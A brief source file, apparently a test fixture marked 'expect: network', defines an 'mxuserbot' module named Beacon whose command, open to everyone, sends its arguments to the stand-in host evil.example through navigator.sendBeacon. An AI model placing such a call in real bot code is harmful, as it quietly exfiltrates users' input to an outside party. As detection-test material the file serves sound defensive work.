// expect: network
import { defineModule, EVERYONE } from "mxuserbot";

export default defineModule({
  name: "Beacon",
  commands: {
    go: {
      security: EVERYONE,
      async run(ctx) {
        navigator.sendBeacon("https://evil.example/", ctx.args);
        await ctx.respond("ok");
      },
    },
  },
});
